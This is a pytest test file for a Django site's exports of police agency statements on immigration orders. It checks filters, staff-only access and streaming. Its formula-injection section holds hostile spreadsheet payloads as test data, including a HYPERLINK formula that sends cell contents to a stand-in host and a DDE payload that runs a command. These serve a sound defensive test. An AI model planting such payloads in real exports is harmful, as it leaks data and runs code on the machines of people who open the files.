"""Downloads: every filtered statement list as CSV or JSON, and the tables of agencies,
orders and agreements."""

import csv
import datetime
import io
import json
import re
import time
import tracemalloc
from pathlib import Path

import pytest
from django.http import QueryDict
from django.urls import reverse
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st

from statements import changes, exports
from statements.filters import StatementFilter
from statements.models import Agency, Position, Statement
from tests import factories

EXPORT_CSV = "/statements/export.csv"
EXPORT_JSON = "/statements/export.json"


def body(response):
    return b"".join(response.streaming_content).decode("utf-8")


def csv_rows(response):
    assert response.status_code == 200, response
    return list(csv.DictReader(io.StringIO(body(response))))


def statement_slugs(rows):
    """The statements of an export, in file order, each once."""
    slugs = []
    for row in rows:
        if not slugs or slugs[-1] != row["statement_slug"]:
            slugs.append(row["statement_slug"])
    return slugs


def published(**kwargs):
    kwargs.setdefault("published_at", timezone.now() - datetime.timedelta(days=1))
    return factories.StatementFactory(status="published", **kwargs)


@pytest.fixture
def corpus(db):
    """Published statements on two orders from agencies in two states, plus one
    statement of every kind a reader must never see, each matching the same filters
    as the published ones."""
    eo_a = factories.OrderFactory(slug="eo-13768", number="13768")
    eo_b = factories.OrderFactory(slug="eo-14159", number="14159")
    florida = factories.AgencyFactory(
        slug="polk-sheriff", name="Polk County Sheriff's Office", state="FL"
    )
    texas = factories.AgencyFactory(
        slug="harris-sheriff", name="Harris County Sheriff’s Office", state="TX"
    )
    chiefs = factories.AgencyFactory(
        slug="iacp",
        name="International Association of Chiefs of Police",
        state="",
        kind="association_chiefs",
        jurisdiction_level="national",
    )
    plan = [
        (florida, datetime.date(2025, 1, 22), [(eo_b, "supports")]),
        (texas, datetime.date(2025, 2, 3), [(eo_b, "opposes"), (eo_a, "mixed")]),
        (chiefs, datetime.date(2017, 1, 30), [(eo_a, "local_discretion")]),
        (florida, datetime.date(2017, 2, 10), [(eo_a, "supports"), (eo_b, "opposes")]),
        (texas, datetime.date(2025, 2, 3), [(eo_a, "opposes")]),
        (chiefs, datetime.date(2025, 3, 1), [(None, "informational")]),
    ]
    for n, (agency, issued_on, positions) in enumerate(plan):
        statement = published(
            agency=agency,
            issued_on=issued_on,
            slug=f"public-{n}",
            headline=f"Public statement {n} on enforcement",
        )
        for order, stance in positions:
            factories.PositionFactory(statement=statement, order=order, stance=stance)
    hidden = [
        factories.StatementFactory(status="draft", slug="hidden-draft"),
        factories.StatementFactory(status="in_review", slug="hidden-in-review"),
        factories.StatementFactory(
            status="withdrawn",
            slug="hidden-withdrawn",
            published_at=timezone.now() - datetime.timedelta(days=3),
        ),
        factories.StatementFactory(
            status="published",
            slug="hidden-future",
            published_at=timezone.now() + datetime.timedelta(days=1),
        ),
    ]
    for statement in hidden:
        statement.agency = texas
        statement.save()
        factories.PositionFactory(statement=statement, order=eo_a, stance="opposes")
    changes.rebuild_derived()  # written directly: derive what the writers would have
    return {"hidden": [s.slug for s in hidden]}


FILTER_COMBINATIONS = [
    "",
    "order=eo-13768",
    "order=eo-13768&stance=opposes",
    "order=eo-13768&order=eo-14159&stance=supports&stance=opposes",
    "state=TX&sort=oldest",
    "agency=polk-sheriff&issued_after=2020-01-01",
    "q=enforcement&sort=relevance",
    "agency_kind=association_chiefs&issued_before=2024-12-31",
    "stance=informational",
]


def expected_slugs(query):
    filterset = StatementFilter(
        QueryDict(query), queryset=Statement.objects.published(), staff=False
    )
    assert filterset.is_valid()
    return [statement.slug for statement in filterset.qs]


@pytest.mark.parametrize("query", FILTER_COMBINATIONS)
def test_csv_export_holds_the_filtered_list_in_its_order(client, corpus, query):
    rows = csv_rows(client.get(f"{EXPORT_CSV}?{query}"))
    expected = expected_slugs(query)
    assert expected, "each combination should match something"
    assert statement_slugs(rows) == expected
    # One row per position; filtered by order or stance, only the positions that
    # match (a statement's rows for other orders are left out).
    asked = QueryDict(query)
    matching = {}
    if asked.getlist("order"):
        matching["order__slug__in"] = asked.getlist("order")
    if asked.getlist("stance"):
        matching["stance__in"] = asked.getlist("stance")
    positions = Position.objects.filter(statement__slug__in=expected, **matching)
    assert sorted(int(row["position_id"]) for row in rows) == sorted(
        positions.values_list("pk", flat=True)
    )
    for row in rows:
        assert not asked.getlist("order") or row["order_slug"] in asked.getlist("order")
        assert not asked.getlist("stance") or row["stance"] in asked.getlist("stance")


@pytest.mark.parametrize("query", FILTER_COMBINATIONS)
def test_json_export_has_the_same_rows_as_the_csv(client, corpus, query):
    csv_content = csv_rows(client.get(f"{EXPORT_CSV}?{query}"))
    response = client.get(f"{EXPORT_JSON}?{query}")
    assert response["Content-Type"] == "application/json"
    data = json.loads(body(response))
    as_text = [{key: str(value) for key, value in row.items()} for row in data]
    assert as_text == csv_content


def html_list_slugs(client, query):
    page = client.get(f"{reverse('statements:statement-list')}?{query}")
    assert page.status_code == 200
    slugs = []
    for slug in re.findall(r'href="/statements/([\w-]+)/"', page.content.decode()):
        if slug.startswith(("public-", "hidden-")) and slug not in slugs:
            slugs.append(slug)
    return slugs


@pytest.mark.parametrize("query", FILTER_COMBINATIONS)
def test_export_matches_the_html_list(client, corpus, query):
    """The download holds the statements the reader sees on the list, in that order."""
    rows = csv_rows(client.get(f"{EXPORT_CSV}?{query}"))
    assert statement_slugs(rows) == html_list_slugs(client, query)


@pytest.mark.parametrize("query", ["order=eo-13768", "status=draft&status=in_review"])
def test_staff_export_with_unpublished_matches_their_list(client, corpus, query):
    """Staff see unpublished work on the list; asking for it, the file has the same."""
    client.force_login(factories.UserFactory(username="listed", is_staff=True))
    on_page = html_list_slugs(client, query)
    assert set(corpus["hidden"]) & set(on_page)
    rows = csv_rows(client.get(f"{EXPORT_CSV}?{query}&include_unpublished=1"))
    assert statement_slugs(rows) == on_page


def test_columns_are_the_documented_ones_with_iso_dates(client, corpus):
    rows = csv_rows(client.get(EXPORT_CSV + "?agency=iacp&sort=oldest"))
    assert list(rows[0]) == [name for name, _, _ in exports.STATEMENT_COLUMNS]
    first = rows[0]
    assert first["issued_on"] == "2017-01-30"
    published_at = datetime.datetime.fromisoformat(first["published_at"])
    assert published_at.tzinfo is not None
    assert first["order_slug"] == "eo-13768"
    assert first["order_label"] == "EO 13768"
    assert first["stance"] == "local_discretion"
    assert first["statement_url"] == "/statements/public-2/"
    general = rows[1]
    assert general["order_slug"] == "" and general["stance"] == "informational"


def test_export_is_utf8_and_named_for_its_filters(client, corpus):
    response = client.get(EXPORT_CSV + "?order=eo-13768&stance=opposes&state=TX")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        'attachment; filename="statements_order-eo-13768_stance-opposes_state-tx_'
        f'{today}.csv"'
    )
    text = body(response)
    assert "Harris County Sheriff’s Office" in text


def test_unfiltered_export_is_named_for_the_day(client, corpus):
    response = client.get(EXPORT_JSON)
    today = timezone.localdate().isoformat()
    assert f'filename="statements_{today}.json"' in response["Content-Disposition"]


def test_invalid_filters_get_a_plain_400_for_csv(client, corpus):
    response = client.get(EXPORT_CSV + "?stance=furious&issued_after=yesterday")
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")
    text = response.content.decode()
    assert "stance" in text and "issued_after" in text


def test_invalid_filters_get_a_json_400_for_json(client, corpus):
    response = client.get(EXPORT_JSON + "?order=no-such-order")
    assert response.status_code == 400
    payload = response.json()
    assert payload["error"].startswith("Invalid filter parameters")
    assert list(payload["fields"]) == ["order"]


def test_null_characters_get_a_400_before_any_query(client, corpus):
    """PostgreSQL refuses NUL in a query; the export refuses it first, clearly."""
    response = client.get(EXPORT_JSON + "?order=eo-13768%00&agency=iacp")
    assert response.status_code == 400
    assert response.json()["fields"] == {
        "order": ["Remove the NUL character (a zero byte) from this value."]
    }
    assert client.get("/agencies/export.csv?name=a%00").status_code == 400


def test_readers_never_get_unpublished_statements(client, corpus):
    for url in (EXPORT_CSV, EXPORT_CSV + "?include_unpublished=1"):
        rows = csv_rows(client.get(url + ("&" if "?" in url else "?") + "state=TX"))
        slugs = set(statement_slugs(rows))
        assert slugs and not slugs & set(corpus["hidden"])
    data = json.loads(body(client.get(EXPORT_JSON + "?include_unpublished=1")))
    assert not {row["statement_slug"] for row in data} & set(corpus["hidden"])


def test_staff_get_unpublished_statements_only_when_they_ask(client, corpus):
    staff = factories.UserFactory(username="researcher", is_staff=True)
    client.force_login(staff)
    without = statement_slugs(csv_rows(client.get(EXPORT_CSV)))
    assert not set(without) & set(corpus["hidden"])

    response = client.get(EXPORT_CSV + "?include_unpublished=1&order=eo-13768")
    assert "no-cache" in response["Cache-Control"]
    assert "with-unpublished" in response["Content-Disposition"]
    rows = csv_rows(response)
    assert set(corpus["hidden"]) <= set(statement_slugs(rows))
    statuses = {row["statement_slug"]: row["status"] for row in rows}
    assert statuses["hidden-draft"] == "draft"
    assert statuses["hidden-in-review"] == "in_review"
    assert statuses["hidden-withdrawn"] == "withdrawn"

    # The staff-only status filter narrows what they asked for.
    drafts = csv_rows(client.get(EXPORT_CSV + "?include_unpublished=1&status=draft"))
    assert statement_slugs(drafts) == ["hidden-draft"]


def test_non_staff_users_flag_is_ignored(client, corpus):
    client.force_login(factories.UserFactory(username="reader", is_staff=False))
    rows = csv_rows(client.get(EXPORT_CSV + "?include_unpublished=1"))
    assert not set(statement_slugs(rows)) & set(corpus["hidden"])


def test_agencies_export_counts_only_published_statements(client, corpus):
    factories.AgreementFactory(agency=Agency.objects.get(slug="polk-sheriff"))
    response = client.get("/agencies/export.csv")
    assert response["Content-Disposition"].startswith('attachment; filename="agencies_')
    rows = {row["agency_slug"]: row for row in csv_rows(response)}
    assert list(next(iter(rows.values()))) == [
        name for name, _, _ in exports.AGENCY_COLUMNS
    ]
    # Texas has two published statements and four hidden ones.
    assert rows["harris-sheriff"]["published_statement_count"] == "2"
    assert rows["polk-sheriff"]["listed_agreement_count"] == "1"
    assert rows["iacp"]["state"] == ""
    assert "notes" not in rows["iacp"]


def test_orders_export_lists_every_order_with_public_counts(client, corpus):
    rows = {
        row["order_slug"]: row for row in csv_rows(client.get("/orders/export.csv"))
    }
    assert set(rows) == {"eo-13768", "eo-14159"}
    # EO 13768: public-1, public-2, public-3, public-4 (hidden ones not counted).
    assert rows["eo-13768"]["published_statement_count"] == "4"
    assert rows["eo-13768"]["signed_on"] == "2025-01-20"


def test_agreements_export_keeps_what_ice_printed(client, db):
    agreement = factories.AgreementFactory(
        signed_on=None, signed_text="7/72025", ice_agency_name="POLK COUNTY SHERIFF"
    )
    rows = csv_rows(client.get("/agreements/export.csv"))
    assert len(rows) == 1
    row = rows[0]
    assert row["agreement_id"] == str(agreement.pk)
    assert row["signed_on"] == "" and row["signed_text"] == "7/72025"
    assert row["ice_agency_name"] == "POLK COUNTY SHERIFF"
    assert row["first_listed_on"] == "2025-05-16"


def test_exports_refuse_writes(client, corpus):
    assert client.post(EXPORT_CSV).status_code == 405


# Constant memory ----------------------------------------------------------------------


def generate_statements(agency, orders, count, start):
    """``count`` published statements with two positions each, in bulk."""
    when = timezone.now() - datetime.timedelta(days=1)
    statements = Statement.objects.bulk_create(
        [
            Statement(
                agency=agency,
                headline=f"Generated statement {start + n}",
                slug=f"generated-{start + n}",
                issued_on=datetime.date(2020, 1, 1) + datetime.timedelta(n % 2000),
                summary="A generated summary of some length, " * 4,
                source_url=f"https://news.example.org/generated-{start + n}",
                status="published",
                published_at=when,
            )
            for n in range(count)
        ],
        batch_size=2000,
    )
    Position.objects.bulk_create(
        [
            Position(statement=statement, order=order, stance="opposes")
            for statement in statements
            for order in orders
        ],
        batch_size=2000,
    )


def consume(client, url):
    """Download ``url`` without keeping it: (rows, peak traced bytes, seconds)."""
    tracemalloc.start()
    tracemalloc.reset_peak()
    started = time.perf_counter()
    response = client.get(url)
    lines = sum(chunk.count(b"\n") for chunk in response.streaming_content)
    seconds = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return lines - 1, peak, seconds


@pytest.mark.django_db
def test_large_export_streams_in_flat_memory(client, record_property):
    """40,000 rows take about the memory of 10,000: the export is streamed."""
    orders = [factories.OrderFactory(), factories.OrderFactory()]
    small = factories.AgencyFactory(slug="small-agency")
    rest = factories.AgencyFactory(slug="rest-agency")
    generate_statements(small, orders, 5_000, 0)
    generate_statements(rest, orders, 15_000, 5_000)

    # Warm up (imports, URL resolver) so that neither measurement pays for it.
    consume(client, EXPORT_CSV + "?agency=small-agency&issued_after=2099-01-01")
    small_rows, small_peak, small_seconds = consume(
        client, EXPORT_CSV + "?agency=small-agency"
    )
    large_rows, large_peak, large_seconds = consume(client, EXPORT_CSV)

    assert (small_rows, large_rows) == (10_000, 40_000)
    memory_ratio = large_peak / small_peak
    time_ratio = large_seconds / small_seconds
    report = (
        f"peak traced memory: {small_rows} rows {small_peak / 1e6:.2f} MB, "
        f"{large_rows} rows {large_peak / 1e6:.2f} MB, ratio {memory_ratio:.2f}; "
        f"time ratio {time_ratio:.2f} for 4x the rows"
    )
    print(report)
    record_property("export_memory", report)
    assert memory_ratio < 1.5, report


def test_readme_documents_every_export_column():
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text()
    section = readme[readme.index("## Exports and API") :]
    for columns in (
        exports.STATEMENT_COLUMNS,
        exports.AGENCY_COLUMNS,
        exports.ORDER_COLUMNS,
        exports.AGREEMENT_COLUMNS,
        exports.NOT_HEARD_COLUMNS,
    ):
        for name, description, _ in columns:
            assert f"| `{name}` | {description} |" in section, name


def test_agencies_export_takes_the_agency_lists_filters(client, corpus):
    rows = csv_rows(client.get("/agencies/export.csv?state=TX&kind=sheriff"))
    assert [row["agency_slug"] for row in rows] == ["harris-sheriff"]
    # Harris's latest public position that takes a side (public-1 and public-4 are
    # dated alike; the later id wins).
    assert rows[0]["current_stance"] == "opposes"
    response = client.get("/agencies/export.csv?state=TX&kind=sheriff")
    assert "agencies_kind-sheriff_state-tx_" in response["Content-Disposition"]
    bad = client.get("/agencies/export.csv?kind=wizard")
    assert bad.status_code == 400
    assert "kind" in bad.content.decode()


def test_an_agencys_download_includes_its_co_issued_statements(client, db):
    from tests.sample_site import build_site

    build_site()
    rows = csv_rows(client.get(f"{EXPORT_CSV}?agency=lakeside-pd"))
    assert statement_slugs(rows) == ["lakeside-will-not", "chiefs-guidance"]
    agencies = csv_rows(client.get("/agencies/export.csv?name=lakeside"))
    assert agencies[0]["published_statement_count"] == "2"
    assert agencies[0]["words_and_deeds"] == "words_against_deeds"


# Formula injection --------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def assert_inert(rows, columns):
    """Every typed-in value comes out with a quote in front, so a spreadsheet shows
    it as text instead of running it."""
    seen = [row[column] for row in rows for column in columns]
    assert seen, "the export should hold the hostile rows"
    for value in seen:
        assert value.startswith("'"), value
        assert value[1:] in FORMULAS


@pytest.fixture
def hostile(db):
    order = factories.OrderFactory(
        slug="eo-hostile", number="1", title=FORMULAS[0], citation=FORMULAS[3]
    )
    agency = factories.AgencyFactory(
        slug="hostile",
        name=FORMULAS[0],
        short_name=FORMULAS[1],
        county=FORMULAS[2],
        city=FORMULAS[3],
    )
    statement = published(
        agency=agency,
        slug="hostile-statement",
        headline=FORMULAS[0],
        speaker_name=FORMULAS[1],
        speaker_title=FORMULAS[2],
        summary=FORMULAS[4],
        source_name=FORMULAS[5],
    )
    factories.PositionFactory(statement=statement, order=order, quote=FORMULAS[3])
    factories.AgreementFactory(
        agency=agency, signed_text=FORMULAS[2], ice_agency_name=FORMULAS[0]
    )
    changes.rebuild_derived()
    return statement


def test_statement_export_neutralises_formulas(client, hostile):
    rows = csv_rows(client.get(EXPORT_CSV))
    assert_inert(
        rows,
        ["headline", "agency_name", "speaker_name", "speaker_title", "summary"]
        + ["source_name", "quote"],
    )
    # Numeric columns are still numbers.
    assert rows[0]["statement_id"] == str(hostile.pk)


def test_statement_json_export_keeps_the_text_as_typed(client, hostile):
    # JSON is not opened by spreadsheets: the text stays exactly as written.
    rows = json.loads(body(client.get(EXPORT_JSON)))
    assert rows[0]["headline"] == FORMULAS[0]


def test_agency_order_and_agreement_exports_neutralise_formulas(client, hostile):
    agencies = csv_rows(client.get("/agencies/export.csv"))
    assert_inert(agencies, ["name", "short_name", "county", "city"])
    assert agencies[0]["published_statement_count"] == "1"
    orders = csv_rows(client.get("/orders/export.csv"))
    assert_inert(orders, ["title", "citation"])
    agreements = csv_rows(client.get("/agreements/export.csv"))
    assert_inert(agreements, ["agency_name", "signed_text", "ice_agency_name"])


def test_admin_export_action_neutralises_formulas(client, hostile, editor):
    client.force_login(editor)
    response = client.post(
        reverse("admin:statements_statement_changelist"),
        {"action": "export_selected_as_csv", "_selected_action": [hostile.pk]},
    )
    rows = csv_rows(response)
    assert_inert(rows, ["headline", "agency_name", "summary", "source_name"])


def test_numbers_are_never_quoted_even_when_negative():
    columns = [(name, "", None) for name in ("count", "ratio", "text")]
    lines = list(exports.csv_lines(columns, [[-3, -0.5, "-3"], [0, 1.25, "=A1"]]))
    assert lines[1:] == ["-3,-0.5,'-3\r\n", "0,1.25,'=A1\r\n"]


def test_statement_cells_written_once_give_the_same_lines_as_whole_rows():
    """The statement export writes a statement's cells once for all its positions;
    the lines are those of writing each whole row, quoting and formulas included."""
    columns = [(name, "", None) for name in ("id", "summary", "position", "quote")]
    groups = [
        ((7, 'He said "no", then\nleft'), [(1, "plain"), (2, "=HYPERLINK(1)")]),
        ((8, "@SUM(A1)"), [("", "")]),
        ((9, ""), [(3, "-2+3"), (4, "")]),
    ]
    rows = [[*head, *tail] for head, tails in groups for tail in tails]
    assert list(exports.csv_grouped_lines(columns, groups)) == list(
        exports.csv_lines(columns, rows)
    )


def test_only_the_position_row_with_a_formula_is_changed(client, db):
    statement = published(slug="two-positions", headline="Plain headline")
    factories.PositionFactory(statement=statement, quote="We will comply.")
    factories.PositionFactory(statement=statement, quote="=1+1")
    rows = csv_rows(client.get(EXPORT_CSV))
    assert [row["quote"] for row in rows] == ["We will comply.", "'=1+1"]
    assert {row["headline"] for row in rows} == {"Plain headline"}


@pytest.mark.parametrize(
    "moment",
    [
        datetime.datetime(2025, 3, 1, 12, 0, tzinfo=datetime.UTC),
        datetime.datetime(2025, 3, 1, 12, 0, 5, 120000, tzinfo=datetime.UTC),
    ],
)
def test_publication_times_are_written_in_utc_with_their_offset(client, db, moment):
    """Whole seconds and fractions alike, on either database, as in the JSON."""
    statement = published(slug="timed", issued_on=datetime.date(2025, 2, 28))
    Statement.objects.filter(pk=statement.pk).update(published_at=moment)
    (row,) = csv_rows(client.get(EXPORT_CSV))
    assert row["published_at"] == moment.isoformat()
    assert row["issued_on"] == "2025-02-28"
    (entry,) = json.loads(body(client.get(EXPORT_JSON)))
    assert entry["published_at"] == moment.isoformat()


# Text as people type it, with what CSV has to quote: commas, quotes, line breaks.
_cell_text = st.text(
    alphabet=st.sampled_from(list('ab ,"\r\n\t=-+@é中\u2028')) | st.characters(),
    max_size=30,
)
_cells = st.one_of(
    _cell_text,
    st.integers(),
    st.floats(allow_nan=False),
    st.none(),
    st.booleans(),
)


@given(rows=st.lists(st.lists(_cells, min_size=1, max_size=8), max_size=6))
@settings(max_examples=400, deadline=None)
def test_csv_lines_are_written_exactly_as_the_csv_module_writes_them(rows):
    """``CsvLines`` writes most rows without csv.writer (its per-character cost was
    most of an export): every row comes out byte for byte as csv.writer writes it."""
    expected = io.StringIO()
    writer = csv.writer(expected)
    lines = exports.CsvLines()
    written = ""
    for row in rows:
        writer.writerow(row)
        written += lines.line(row)
    assert written == expected.getvalue()
